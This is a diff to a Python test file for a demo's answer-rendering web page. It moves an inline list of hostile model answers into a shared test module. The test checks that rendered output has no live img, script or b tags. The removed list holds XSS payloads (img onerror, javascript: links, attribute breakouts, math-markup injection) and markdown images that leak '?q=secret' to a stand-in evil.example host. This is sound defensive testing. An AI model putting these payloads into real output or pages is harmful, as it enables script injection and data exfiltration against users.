@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from internvl_demo.grounding.parser import Box, Event, Phrase, Text
 from internvl_demo.web.markup import render_answer
 from internvl_demo.web.markup.formulas import _ELEMENTS
+from tests.support.hostile_texts import HOSTILE_ANSWERS
 
 TAGS: dict[str, set[str]] = {
     **{
@@ -97,39 +98,7 @@ def boxed(text: str) -> Sequence[Event]:
     return Phrase(text), Box(" ".join(text.split()), (0, 0, 9, 9))
 
 
-HOSTILE = [
-    "<script>x</script>",
-    "See ``` <img src=https://evil.example/x>",
-    r"\`<img src=x onerror=alert(1)>`",
-    "``` `` ` `` <b>hi</b> ",
-    "`$` $ <img src=x> `",
-    "```\n$\n```\n<img src=x>\n```\n$\n```",
-    "~~~ ```\n~~~\n<img src=x>",
-    "    code\n\n<img src=x>",
-    "- ```\n<img src=x>\n```",
-    "![x](https://evil.example/?q=secret)",
-    "![x][y]\n\n[y]: https://evil.example/?q=secret",
-    "[x](javascript:alert(1)) <javascript:alert(1)>",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    '[x](https://a.example/"onmouseover="alert(1))',
-    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
-    "[a [b](http://b.example) c](http://c.example) [<http://a.example>](http://b.example)",
-    "$<img src=x>$ \\(<img src=x>\\) \\[<img src=x>\\]",
-    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{wide}{x}$ $\text{<img src=x>}$",
-    r"$\unicode{x3c}img src=x\unicode{x3e}$ $\text{&lt;img src=x&gt;}$ $\text{&#xDFFF;}$",
-    r"$\rule{99999em}{99999em}$ $\hspace{-99em}x$ $\llap{over}$ $\raise99em x$ $\color{white}{x}$",
-    r"$\def\a{\b\b}\def\b{\a\a}\a$",
-    "<!-- --><img src=x><!-- -->",
-    "&lt;img src=x&gt; &#60;img src=x&#62; &#xfdd0;",
-    "| a |\n|---|\n| `<img src=x> |\n",
-    '```"><img src=x>\ncode',
-    "```mermaid\ngraph TD\nA-->B\n```",
-    "```html\n<img src=x onerror='alert(1)'>\n```",
-    "\ufdd0\ufde0<img src=x>\ufdd1 \ufdd2 \ud800 \0",
-]
-
-
-@pytest.mark.parametrize("said", HOSTILE)
+@pytest.mark.parametrize("said", HOSTILE_ANSWERS)
 def test_no_markup_of_a_model_is_live(said: str) -> None:
     page = Page(shown(said))
     assert not {"img", "script", "b"} & set(page.seen)
